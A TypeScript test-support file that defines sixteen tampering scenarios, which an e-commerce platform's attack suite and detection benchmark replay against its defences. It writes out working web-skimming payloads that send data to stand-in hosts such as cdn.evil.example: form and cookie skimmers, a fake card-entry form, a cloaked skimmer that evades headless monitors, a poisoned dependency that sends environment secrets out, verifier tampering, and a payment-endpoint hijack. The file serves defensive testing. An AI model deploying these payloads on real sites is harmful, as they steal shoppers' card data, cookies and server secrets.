import type { FastifyInstance } from 'fastify';
import type { Logger } from 'pino';
import type { Page } from 'playwright-core';
import type { MonitorProfile } from '../../src/domains/monitor/monitor.tables.ts';
import { guardServerEgress } from '../../src/domains/security/egress-events.ts';
import { SETTINGS_CHANGE_OUTBOX_KIND } from '../../src/domains/security/settings-change.events.ts';
import { seedStaffUser, staffSessionToken } from '../../src/domains/staff/console.test-support.ts';
import { loadConfig } from '../../src/platform/config/config.ts';
import type { Database } from '../../src/platform/db/database.ts';
import { cookieName } from '../../src/platform/http/cookies.ts';
import type { Platform } from '../../src/platform/http/platform.ts';
import { loadApprovedScripts, SCRIPT_INVENTORY } from '../../src/platform/http/script-inventory.ts';
import { StaticAssets } from '../../src/platform/http/static-assets.ts';
import { deliverOutboxItem } from '../../src/platform/jobs/outbox.ts';
import { csrfFrom } from '../test-app.ts';
import { MONITOR_EMAIL, SHOP, SIGNED_DEPENDENCY, type SignedTree, tamperState } from './attack-harness.ts';

/**
 * The catalogue's tamperings, one definition each, for the attack suite (which adds its traffic and
 * scenario-specific assertions) and for `npm run bench:detect` (which replays them on the layers'
 * own schedules): each scenario changes a running Oroshi the way an attacker would — the signed
 * tree copy on disk, database texts as the owner, settings through a taken-over staff session, and
 * what the restarted process sends through `tamperState` or the tampered instance's platform — and
 * returns how to undo it.
 */

export interface ScenarioContext {
  database: Database;
  tenantId: string;
  tree: SignedTree;
  /** The tampered instance's platform (scenario 1 swaps its assets as a restarted process would load them). */
  platform: Platform;
  /** The clean instance: the one a taken-over staff account changes settings through (14). */
  app: FastifyInstance;
  /** The product every visit opens (the first link on the shop's home): one row is all an attacker needs. */
  productCode: string;
  log: Logger;
}

export interface AttackScenario {
  /** The catalogue number ('13b': the verifier itself). */
  id: string;
  name: string;
  /** Layers the attack suite requires for this scenario. */
  layers: readonly string[];
  /** How many layers the suite requires in all (default 2). */
  minLayers?: number;
  /** The page a buyer's browser gets tampered (path), or null when no page changes (13b). */
  page: RegExp | null;
  buyerProfile: MonitorProfile;
  /** The attacker changes files on the server (the build verifier's target). */
  touchesFiles: boolean;
  /** What the buyer does on the tampered checkout (falls for the fake form, submits the hijacked one). */
  buyerAction?: (page: Page) => Promise<void>;
  /** The attacker also stops the verifier after tampering with it (the dead-man's switch must notice). */
  stopsVerifier?: boolean;
  /** Tampers; the returned function undoes it (the signed tree and `tamperState` are reset by the caller too). */
  inject(ctx: ScenarioContext): Promise<() => Promise<void>>;
}

export const SKIM_JS = `;(function(){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/c.gif?d='+encodeURIComponent(JSON.stringify([...document.forms].map(function(f){return new FormData(f)})))})})();\n`;

export const FAKE_CARD_FORM =
  '<section class="panel"><p class="alert alert--error">決済に失敗しました。もう一度カード情報を入力してください。</p><form method="post" action="https://pay-oroshi.evil.example/collect"><input name="cardnumber" autocomplete="cc-number" inputmode="numeric" maxlength="19"><input name="cvc" autocomplete="cc-csc" maxlength="4"><button type="submit">再送信</button></form></section>';

const nothing = async () => undefined;

/** Appends to the description of the product every visit opens, as the owner (behind the sanitiser's back); undo restores the row. */
async function tamperDescription({ database, tenantId, productCode }: ScenarioContext, payload: string): Promise<() => Promise<void>> {
  const saved = await database.ownerExec(`SELECT id, description_html FROM products WHERE tenant_id = $1 AND code = $2`, [tenantId, productCode]);
  await database.ownerExec(`UPDATE products SET description_html = description_html || $3 WHERE tenant_id = $1 AND code = $2`, [tenantId, productCode, payload]);
  return async () => {
    for (const row of saved.rows) await database.ownerExec(`UPDATE products SET description_html = $2 WHERE id = $1`, [row.id, row.description_html]);
  };
}

/** Submits the first form that posts to the attacker, if the page has one (a DOM click: no wait for navigation the CSP stops). */
async function submitEvilForm(page: Page): Promise<void> {
  const form = page.locator('form[action*="evil.example"]');
  if ((await form.count()) > 0) await form.locator('[type="submit"]').first().evaluate((b: HTMLElement) => b.click());
}

/** The tampered process's static files (and approved scripts) until undone: a restart on the tampered tree. */
function swapAssets(platform: Platform, assets: StaticAssets, scripts = loadApprovedScripts(assets).approved): () => Promise<void> {
  const original = { assets: platform.assets, scripts: platform.scripts };
  Object.assign(platform, { assets, scripts });
  return async () => {
    Object.assign(platform, original);
  };
}

/**
 * An attacker who can write the server's files appends to the first-party bundle the checkout loads
 * and rebuilds the script inventory with the new hash: the restarted process approves the bytes, the
 * page's SRI and hash-only CSP admit them, and the skimmer runs in the buyer's browser. What it does
 * next is the scenario.
 */
function serveTamperedBundle({ tree, platform }: ScenarioContext, js: string): () => Promise<void> {
  tree.tamper('static/js/postal-fill.js', (src) => src + js);
  const assets = new StaticAssets(tree.file('static/'));
  const rebuilt = assets.get('js/postal-fill.js').sha384;
  const approved = SCRIPT_INVENTORY.find((s) => s.id === 'postal-fill')!.sha384;
  tree.tamper('src/platform/http/script-inventory.ts', (src) => src.replace(approved, rebuilt));
  const inventory = SCRIPT_INVENTORY.map((s) => (s.id === 'postal-fill' ? { ...s, sha384: rebuilt } : s));
  return swapAssets(platform, assets, loadApprovedScripts(assets, inventory).approved);
}

/** What the cloaked skimmer (12) served, and to whom: the suite checks it skipped the monitor and reached the buyer. */
export const cloakedServes = { monitor: 0, buyer: 0 };

/** The attacker's payload in scenario 8 (the suite checks the upload path strips it). */
export const IMAGE_PAYLOAD = `/*P*/new Image().src='https://cdn.evil.example/f.gif?d='+encodeURIComponent(document.cookie)`;

/** Scenario 9's payload: what the shop's editor would strip, written behind the sanitiser's back. */
export const SVG_PAYLOAD = `<svg onload="new Image().src='https://cdn.evil.example/s.gif?d='+document.cookie"></svg>`;

export const ATTACK_SCENARIOS: readonly AttackScenario[] = [
  {
    id: '1',
    name: 'code appended to a first-party JS bundle',
    layers: ['build_verifier', 'render_refusal'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree, platform }) {
      tree.tamper('static/js/postal-fill.js', (js) => js + SKIM_JS);
      // The process restarted on the tampered files: its inventory check refuses the changed bundle.
      return swapAssets(platform, new StaticAssets(tree.file('static/')));
    },
  },
  {
    id: '2',
    name: 'external <script> through a DB-stored text',
    layers: ['db_text_verifier', 'render_refusal'],
    page: /\/p\//,
    buyerProfile: 'desktop',
    touchesFiles: false,
    inject: (ctx) => tamperDescription(ctx, '<script src="https://cdn.evil.example/skim.js"></script>'),
  },
  {
    id: '3',
    name: 'fake card form before the PSP step',
    layers: ['browser_monitor', 'csp_report', 'build_verifier'],
    minLayers: 3,
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async buyerAction(page) {
      // The buyer falls for it: types a card and submits. The CSP's form-action stops the post and reports it.
      if ((await page.locator('input[name="cardnumber"]').count()) === 0) return;
      await page.fill('input[name="cardnumber"]', '4111111111111111');
      await page.fill('input[name="cvc"]', '123');
      await page.locator('form[action*="evil"] button').evaluate((b: HTMLElement) => b.click());
    },
    async inject({ tree }) {
      tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${FAKE_CARD_FORM}\n`);
      tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</main>', `${FAKE_CARD_FORM}</main>`) : html);
      return nothing;
    },
  },
  {
    id: '4',
    name: 'redirect hijack to a look-alike',
    layers: ['csp_report'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    buyerAction: submitEvilForm,
    async inject({ tree }) {
      tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// action -> https://pay-oroshi.evil.example\n`);
      tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace(/action="([^"]*\/checkout)"/g, 'action="https://pay-oroshi.evil.example$1"') : html);
      return nothing;
    },
  },
  {
    id: '5',
    name: 'image beacon',
    layers: ['csp_report', 'browser_monitor'],
    minLayers: 3,
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree }) {
      const beacon = `<script>new Image().src='https://cdn.evil.example/b.gif?d='+encodeURIComponent(document.body.innerText.slice(0,200))</script>`;
      tree.tamper('src/platform/views/layout.tsx', (src) => `${src}\n// ${beacon}\n`);
      tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</body>', `${beacon}</body>`) : html);
      return nothing;
    },
  },
  {
    id: '6',
    name: 'exfiltration through an allowed endpoint (own origin)',
    // Oroshi allows no analytics or other third-party endpoint: connect-src and img-src are 'self'. So the
    // allowed endpoint to abuse is Oroshi's own origin — the data lands in its request log, which the
    // attacker who rebuilt the bundle can read. The CSP has nothing to object to; two other layers must.
    layers: ['browser_integrity', 'browser_monitor', 'build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async buyerAction(page) {
      // The buyer types and goes on: the skimmer's submit listener sends what was typed.
      await page.locator('form[action$="/checkout"] [type="submit"]').first().click();
    },
    async inject(ctx) {
      return serveTamperedBundle(
        ctx,
        `;document.addEventListener('submit',function(){var d=[].map.call(document.querySelectorAll('input:not([type=hidden])'),function(i){return i.name+'='+i.value}).join('&');navigator.sendBeacon('/assets/px.gif?d='+encodeURIComponent(d))},true);\n`,
      );
    },
  },
  {
    id: '7',
    name: 'exfiltration over WebSocket',
    layers: ['csp_report', 'browser_monitor', 'build_verifier'],
    minLayers: 3,
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject(ctx) {
      return serveTamperedBundle(ctx, `;try{var ws=new WebSocket('wss://ws.evil.example/c');ws.onopen=function(){ws.send(document.cookie)}}catch(e){}\n`);
    },
  },
  {
    id: '8',
    name: 'payload in an image, eval’ed by a loader',
    layers: ['csp_report', 'browser_monitor', 'build_verifier'],
    minLayers: 3,
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject(ctx) {
      // Uploads are re-encoded to pixels, so the attacker plants the payload in an image on disk, and a
      // loader in the bundle fetches it and evals the tail.
      ctx.tree.append('static/demo/apron.webp', IMAGE_PAYLOAD);
      const imageUrl = new StaticAssets(ctx.tree.file('static/')).url('demo/apron.webp');
      return serveTamperedBundle(
        ctx,
        `;fetch('${imageUrl}').then(function(r){return r.text()}).then(function(t){var i=t.lastIndexOf('/*P*/');if(i>=0)eval(t.slice(i))}).catch(function(){});\n`,
      );
    },
  },
  {
    id: '9',
    name: 'inline handler in an SVG',
    layers: ['db_text_verifier', 'render_refusal'],
    page: /\/p\//,
    buyerProfile: 'desktop',
    touchesFiles: false,
    inject: (ctx) => tamperDescription(ctx, SVG_PAYLOAD),
  },
  {
    id: '10',
    name: 'payload carried in a stylesheet',
    layers: ['csp_report', 'build_verifier', 'browser_monitor'],
    minLayers: 3,
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree, platform }) {
      tree.tamper('static/css/app.css', (css) => `@import url("https://cdn.evil.example/k.css");\n${css}\nbody{background-image:url("https://cdn.evil.example/k.gif?d=1")}\n`);
      // The process restarted on the tampered files serves the new stylesheet (style-src 'self' admits the file itself).
      return swapAssets(platform, new StaticAssets(tree.file('static/')));
    },
  },
  {
    id: '11',
    name: 'trusted dependency turned malicious (the HTML renderer)',
    layers: ['build_verifier', 'csp_report', 'browser_monitor'],
    minLayers: 3,
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree, database, log }) {
      const injected = '<script src="https://cdn.evil.example/r.js"></script>';
      tree.tamper(`${SIGNED_DEPENDENCY}/dist/index.mjs`, (js) => `${js}\n;(function(){try{fetch('https://collector.evil.example/e?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))}catch(e){}})();\n`);
      // What the poisoned renderer does in the restarted process: every page gets the skimmer tag, and it phones home
      // (through the process's egress guard, as production runs it).
      const egress = await guardServerEgress({ config: loadConfig({ APP_ENV: 'test', DATABASE_URL: process.env.DATABASE_URL }), database, log }, { refreshMs: 3_600_000 });
      tamperState.html = (html) => {
        void fetch('https://collector.evil.example/e?d=env').catch(() => undefined);
        return html.replace('</body>', `${injected}</body>`);
      };
      return async () => {
        egress.stop();
      };
    },
  },
  {
    id: '12',
    name: 'cloaked skimmer (mobile checkout, skips the monitor)',
    layers: ['csp_report', 'build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'mobile',
    touchesFiles: true,
    async inject({ tree }) {
      const skimmer = `<script>if(!navigator.webdriver&&!/Headless/.test(navigator.userAgent)){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/m.gif'});document.currentScript.remove()}</script>`;
      tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${skimmer}\n`);
      cloakedServes.monitor = 0;
      cloakedServes.buyer = 0;
      tamperState.html = (html, ctx) => {
        if (!ctx.path.endsWith('/checkout') || !/Mobile/.test(ctx.userAgent)) return html;
        if (ctx.userEmail === MONITOR_EMAIL) {
          cloakedServes.monitor++;
          return html;
        }
        cloakedServes.buyer++;
        return html.replace('</body>', `${skimmer}</body>`);
      };
      return nothing;
    },
  },
  {
    id: '13',
    name: 'payment module tampered on disk',
    layers: ['build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    buyerAction: submitEvilForm,
    async inject({ tree }) {
      const redirect = 'https://pay-oroshi.evil.example/checkout';
      tree.tamper('src/domains/payments/card-payment.service.ts', (src) => `${src}\nexport const __skim = ${JSON.stringify(redirect)};\n`);
      // What the tampered module makes the process send: the pay step posts to the attacker.
      tamperState.html = (html) => html.replace(/action="([^"]*\/checkout(?:\/place)?)"/g, `action="${redirect}"`);
      return nothing;
    },
  },
  {
    id: '13b',
    name: 'tamper with the verifier itself, then stop it',
    layers: ['build_verifier', 'dead_mans_switch'],
    page: null,
    buyerProfile: 'desktop',
    touchesFiles: true,
    stopsVerifier: true,
    async inject({ tree }) {
      tree.tamper('src/verifier/verifier-pass.ts', (src) =>
        src.replace(
          'return { at, manifestOk: true',
          'return { at, manifestOk: true, check: { modified: [], added: [], missing: [] } as never, manifestError: null, manifestCreatedAt: null, manifestKeyId: "", verifierFilesTouched: [] };\n  return { at, manifestOk: true',
        ),
      );
      return nothing;
    },
  },
  {
    id: '14',
    name: 'admin takeover, malicious payment setting',
    // The attacker holds a shop admin's session, freshly stepped up (a phished password and TOTP code).
    // Oroshi has no setting that adds a script or edits the CSP (no tracking-code field; descriptions are
    // sanitised on write, scenario 9): the payment endpoints are the setting to abuse.
    layers: ['settings_change', 'db_text_verifier'],
    page: null,
    buyerProfile: 'desktop',
    touchesFiles: false,
    async inject({ database, tenantId, app, platform, log }) {
      const demoAdmin = await database.ownerExec(`SELECT id FROM staff_users WHERE tenant_id = $1 AND role = 'shop_admin' AND status = 'active' ORDER BY created_at LIMIT 1`, [tenantId]);
      const adminId = demoAdmin.rows[0] ? String(demoAdmin.rows[0].id) : (await seedStaffUser(database, { tenantId, role: 'shop_admin' })).id;
      const cookie = `${cookieName(platform.config, 'session')}=${await staffSessionToken(database, { id: adminId, tenantId })}`;
      const base = `/admin/${SHOP}/payments`;
      const csrf = csrfFrom(await app.inject({ url: base, headers: { cookie } }));
      const evil = 'https://pay-oroshi.evil.example';
      const saved = await app.inject({
        method: 'POST',
        url: `${base}/key`,
        headers: { cookie: `${cookie}; ${csrf.cookie}`, 'sec-fetch-site': 'same-origin' },
        payload: { _csrf: csrf.token, secretKey: 'sk_live_attackerControlled0000', apiBaseUrl: evil, hostedPageOrigin: evil, captureMethod: 'automatic' },
      });
      const undo = async () => {
        await database.ownerExec(`DELETE FROM provider_accounts WHERE tenant_id = $1`, [tenantId]);
      };
      if (saved.statusCode !== 303) {
        await undo();
        throw new Error(`the taken-over admin's payment setting was not saved: ${saved.statusCode}`);
      }
      // The outbox worker's delivery of the committed change (run inline: neither the suite nor the bench runs an outbox worker).
      const queued = await database.ownerExec(`SELECT id, tenant_id FROM outbox WHERE kind = $1 AND delivered_at IS NULL`, [SETTINGS_CHANGE_OUTBOX_KIND]);
      if (queued.rows.length === 0) {
        await undo();
        throw new Error('the setting change queued no settings-change outbox item');
      }
      for (const row of queued.rows) await deliverOutboxItem(database, { outboxId: String(row.id), tenantId: (row.tenant_id as string | null) ?? null }, log);
      return undo;
    },
  },
  {
    id: '15',
    name: 'security headers weakened',
    layers: ['browser_integrity', 'browser_monitor', 'build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree }) {
      tree.tamper('src/platform/http/security-headers.ts', (src) => `${src}\n// moved CSP to <meta>, added 'unsafe-inline'\n`);
      tamperState.html = (html, ctx, reply) => {
        if (!ctx.path.endsWith('/checkout')) return html;
        const csp = String(reply.getHeader('content-security-policy') ?? '');
        reply.removeHeader('content-security-policy');
        const weakened = csp.replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline'").replace(/;\s*report-uri [^;]*/, '');
        return html.replace('<head>', `<head><meta http-equiv="Content-Security-Policy" content="${weakened.replace(/"/g, '&quot;')}">`);
      };
      return nothing;
    },
  },
];

export function attackScenario(id: string): AttackScenario {
  const scenario = ATTACK_SCENARIOS.find((s) => s.id === id);
  if (!scenario) throw new Error(`no attack scenario ${id}`);
  return scenario;
}
